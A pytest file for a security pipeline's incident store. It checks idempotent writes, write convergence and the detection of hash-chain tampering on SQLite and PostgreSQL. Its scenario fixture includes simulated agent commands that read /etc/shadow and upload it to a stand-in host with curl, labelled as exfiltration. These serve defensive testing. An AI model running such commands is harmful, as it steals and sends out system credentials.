"""The incident store on SQLite and on the real PostgreSQL: idempotent writes, convergence of the
worker's and the CLI's writes, and tampering with the stored data caught by verify()."""

from __future__ import annotations

import random

import pytest

from pipeline.incidents import IncidentStore, IncidentTracker, StoreError, open_store
from pipeline.records import Output, incident_id_for
from pipeline.settings import IncidentSettings

from .factories import T0, Clock, ack, alert, command, control, event


def scenario() -> tuple[list[Output], str]:
    """Two agents: one contained then resolved, one still open. Returns all outputs in order."""
    tr = IncidentTracker(IncidentSettings(), Clock())
    outs: list[Output] = []
    e1 = event(n=1, command="cat /etc/shadow")
    a1 = alert(e1, severity="high", score=70)
    outs += [a1, *tr.on_outputs(e1, [a1])]
    inc = incident_id_for("agent-1", e1.event_id)
    e2 = event(n=2, ts=T0 + 20, command="curl -T /etc/shadow http://x.example")
    a2 = alert(e2, severity="critical", score=97, rule="exfil", first_event=e2, incident=inc)
    cmd = command(e2, "isolate", incident=inc)
    outs += [a2, cmd, *tr.on_outputs(e2, [a2, cmd])]
    outs += tr.on_ack(ack(cmd, at=T0 + 20.3))
    outs += tr.on_control(control("agent-1", inc, assignee="dave", comment="mine"))
    outs += tr.on_control(control("agent-1", inc, ts=T0 + 3600, status="resolved", disposition="true_positive",
                                  comment="creds rotated"))
    e3 = event(agent="agent-2", n=1, ts=T0 + 50)
    a3 = alert(e3, severity="medium", score=45, rule="recon")
    outs += [a3, *tr.on_outputs(e3, [a3])]
    return outs, inc


def fill(store: IncidentStore, outs: list[Output]) -> None:
    for o in outs:
        if o.kind == "incidents":
            store.apply(o.value)
        elif o.kind == "alerts":
            store.apply_alert(o.value)


def snapshot(store: IncidentStore) -> list[dict]:
    incidents = store.list_incidents()
    for inc in incidents:
        inc["timeline"] = store.timeline(inc["incident_id"])
    return incidents


def test_apply_and_read_back(store: IncidentStore) -> None:
    outs, inc = scenario()
    fill(store, outs)
    got = store.get_incident(inc)
    assert got is not None
    assert got["status"] == "resolved" and got["assignee"] == "dave" and got["severity"] == "critical"
    assert got["contained_at"] is not None and got["disposition"] == "true_positive"
    types = [e["type"] for e in got["timeline"]]
    assert types.count("event") == 2 and types.count("alert") == 2 and "ack" in types
    assert types.count("analyst") == 2 and types.count("command") == 1
    assert [e["ts"] for e in got["timeline"]] == sorted(e["ts"] for e in got["timeline"])
    assert store.verify().ok
    assert [i["agent_id"] for i in store.list_incidents(status=["open"])] == ["agent-2"]
    assert len(store.list_incidents(min_severity="high")) == 1
    assert len(store.list_incidents(agents=["agent-2"], min_risk=40)) == 1
    assert store.list_incidents(since=T0 + 10_000) == []
    assert len(store.list_alerts(min_severity="critical")) == 1
    assert store.find_incident(inc[:12]) == inc


def test_idempotent_under_duplicates_and_replays(store: IncidentStore) -> None:
    outs, _ = scenario()
    fill(store, outs)
    before, counts = snapshot(store), store.counts()
    fill(store, outs)  # an exact replay
    fill(store, [o for o in outs for _ in (0, 1)])  # every record duplicated
    assert store.counts() == counts and snapshot(store) == before
    assert store.verify().ok


def test_arrival_order_does_not_change_the_result(tmp_path) -> None:
    outs, _ = scenario()
    results = []
    for seed in range(3):
        shuffled = outs[:]
        random.Random(seed).shuffle(shuffled)
        with open_store(f"sqlite:///{tmp_path}/s{seed}.db") as s:
            fill(s, shuffled)
            snap = snapshot(s)
            for inc in snap:
                inc.pop("revision")
                inc["timeline"] = sorted(e["entry_id"] for e in inc["timeline"])
            results.append(snap)
            assert s.verify().ok
    assert results[0] == results[1] == results[2]


def test_cli_and_worker_writes_converge(store: IncidentStore) -> None:
    tr = IncidentTracker(IncidentSettings(), Clock())
    e1 = event(n=1)
    for o in tr.on_outputs(e1, [alert(e1)]):
        store.apply(o.value)
    inc = incident_id_for("agent-1", e1.event_id)
    msg = control("agent-1", inc, status="resolved", disposition="benign", comment="expected")
    header, notes = store.analyst_action(inc, by="carol", ts=msg["ts"], control_id=msg["control_id"],
                                         status="resolved", disposition="benign", comment="expected")
    assert header["status"] == "resolved" and "status open -> resolved" in notes
    n_entries = store.counts()["timeline_entries"]
    for o in tr.on_control(msg):  # the worker sees the same decision through the control topic
        store.apply(o.value)
    assert store.counts()["timeline_entries"] == n_entries, "same control_id -> same timeline entry"
    got = store.get_incident(inc)
    assert got["status"] == "resolved" and got["disposition"] == "benign"
    assert store.verify().ok


def test_alert_versions_and_ack(store: IncidentStore) -> None:
    e1 = event(n=1)
    v1, v2 = alert(e1, version=1, count=1), alert(event(n=2, ts=T0 + 5), version=2, count=2, first_event=e1)
    store.apply_alert(v2.value)
    store.apply_alert(v1.value)  # an older version arriving late does not win
    got = store.get_alert(v1.value["alert_id"])
    assert got["version"] == 2 and got["triage_status"] == "open"
    acked = store.ack_alert(v1.value["alert_id"], by="carol", ts="2026-09-21T14:00:00.000Z", comment="seen")
    assert acked["triage_status"] == "acked" and acked["ack"]["by"] == "carol"
    store.apply_alert(alert(event(n=3, ts=T0 + 9), version=3, count=3, first_event=e1).value)
    assert store.get_alert(v1.value["alert_id"])["triage_status"] == "acked", "a new version keeps the ack"
    assert [a["alert_id"] for a in store.list_alerts(status=["acked"])] == [v1.value["alert_id"]]
    assert store.verify().ok
    with pytest.raises(StoreError):
        store.ack_alert("alr_nope", by="x", ts="2026-09-21T14:00:00.000Z")


def test_stats_set_is_idempotent_and_add_accumulates(store: IncidentStore) -> None:
    store.record_stats("2026-09-21", 100, 2, source="w1")
    store.record_stats("2026-09-21", 100, 2, source="w1")
    store.record_stats("2026-09-21", 50, 1, source="w2", alerts=3)
    store.record_stats("2026-09-22", 10, 0, source="w1", mode="add")
    store.record_stats("2026-09-22", 10, 0, source="w1", mode="add")
    assert store.stats() == {"2026-09-21": {"events": 150, "dead_letters": 3, "alerts": 3},
                             "2026-09-22": {"events": 20, "dead_letters": 0}}
    assert list(store.stats(since_day="2026-09-22")) == ["2026-09-22"]


# -- tampering: each of the three ways, on both backends --------------------------------------


def filled(store: IncidentStore) -> IncidentStore:
    outs, _ = scenario()
    fill(store, outs)
    assert store.verify().ok
    return store


def chain_ids(store: IncidentStore) -> list[str]:
    return [r[0] for r in store._db.rows("SELECT entry_id FROM aw_chain ORDER BY seq")]


def test_tamper_modified_entry(store: IncidentStore) -> None:
    filled(store)
    ids = chain_ids(store)
    victim = ids[4]
    store._db.execute("UPDATE aw_chain SET text = REPLACE(text, 'agent-1', 'agent-X') WHERE entry_id = ?", (victim,))
    res = store.verify()
    assert (res.ok, res.how, res.first_bad, res.seq) == (False, "modified", victim, 5)


def test_tamper_deleted_entry(store: IncidentStore) -> None:
    filled(store)
    ids = chain_ids(store)
    store._db.execute("DELETE FROM aw_chain WHERE entry_id = ?", (ids[6],))
    res = store.verify()
    assert (res.ok, res.how, res.first_bad) == (False, "deleted", ids[6])


def test_tamper_deleted_last_entry(store: IncidentStore) -> None:
    filled(store)
    ids = chain_ids(store)
    store._db.execute("DELETE FROM aw_chain WHERE entry_id = ?", (ids[-1],))
    res = store.verify()
    assert (res.ok, res.how, res.first_bad) == (False, "deleted", ids[-1])


def test_tamper_reordered_entries(store: IncidentStore) -> None:
    filled(store)
    ids = chain_ids(store)
    db = store._db
    # swap the positions of entries 3 and 4
    db.execute("UPDATE aw_chain SET seq = -1 WHERE seq = 3")
    db.execute("UPDATE aw_chain SET seq = 3 WHERE seq = 4")
    db.execute("UPDATE aw_chain SET seq = 4 WHERE seq = -1")
    res = store.verify()
    assert (res.ok, res.how, res.first_bad, res.seq) == (False, "reordered", ids[3], 3)


def test_tamper_projection_rows(store: IncidentStore) -> None:
    filled(store)
    db = store._db
    # an edit to the queryable table (what `incidents list` shows) without touching the chain
    db.execute("UPDATE aw_incidents SET status = 'false_positive' WHERE agent_id = 'agent-1'")
    res = store.verify()
    assert res.how == "modified" and res.first_bad.startswith("inc_")
    db.execute("UPDATE aw_incidents SET status = 'resolved' WHERE agent_id = 'agent-1'")
    assert store.verify().ok
    victim = db.one("SELECT entry_id FROM aw_timeline WHERE type = 'analyst' ORDER BY chain_seq")[0]
    db.execute("DELETE FROM aw_timeline WHERE entry_id = ?", (victim,))
    res = store.verify()
    assert (res.how, res.first_bad) == ("deleted", victim)


def test_open_store_errors(tmp_path) -> None:
    with pytest.raises(StoreError, match="unsupported store URL"):
        open_store("mysql://x")
    with pytest.raises(StoreError, match="cannot connect to PostgreSQL"):
        open_store("postgresql://nobody@127.0.0.1:1/none")
    (tmp_path / "f").write_text("x")
    with pytest.raises(StoreError):
        open_store(f"sqlite:///{tmp_path}/f/sub/x.db")
    bad = tmp_path / "bad.db"
    bad.write_bytes(b"this is not a database" * 100)
    with pytest.raises(StoreError):
        open_store(f"sqlite:///{bad}")


def test_postgres_concurrent_writers_do_not_fork_the_chain(pg_url: str) -> None:
    """Two connections appending at once serialise on the head row: one linear chain."""
    import threading

    stores = [open_store(pg_url), open_store(pg_url)]
    errors: list[BaseException] = []

    def work(s: IncidentStore, agent: str) -> None:
        try:
            tr = IncidentTracker(IncidentSettings(), Clock())
            for n in range(15):
                e = event(agent=agent, n=n, ts=T0 + n)
                for o in tr.on_outputs(e, [alert(e, first_event=event(agent=agent, n=0))]):
                    s.apply(o.value)
        except BaseException as exc:  # surfaced below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(s, f"agent-{i}")) for i, s in enumerate(stores)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    res = stores[0].verify()
    assert res.ok and res.checked == stores[0].counts()["chain_entries"]
    for s in stores:
        s.close()


def test_one_store_shared_by_threads_serialises_its_transactions(store: IncidentStore) -> None:
    """The worker writes incidents and run figures from different threads through one store:
    their transactions must not interleave on the shared connection (they did: "cannot start
    a transaction within a transaction" stopped a worker under load)."""
    import threading

    errors: list[BaseException] = []
    barrier = threading.Barrier(3)

    def incidents(agent: str) -> None:
        try:
            barrier.wait()
            tr = IncidentTracker(IncidentSettings(), Clock())
            for n in range(12):
                e = event(agent=agent, n=n, ts=T0 + n)
                store.apply_outputs([*tr.on_outputs(e, [alert(e, first_event=event(agent=agent, n=0))])])
        except BaseException as exc:  # surfaced below
            errors.append(exc)

    def figures() -> None:
        try:
            barrier.wait()
            for _ in range(60):
                store.record_stats("2026-09-21", 1, 0, source="w1", mode="add")
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=incidents, args=(f"agent-{i}",)) for i in range(2)]
    threads.append(threading.Thread(target=figures))
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert store.stats()["2026-09-21"]["events"] == 60
    assert {i["agent_id"] for i in store.list_incidents()} == {"agent-0", "agent-1"}
    res = store.verify()
    assert res.ok and res.checked == store.counts()["chain_entries"]
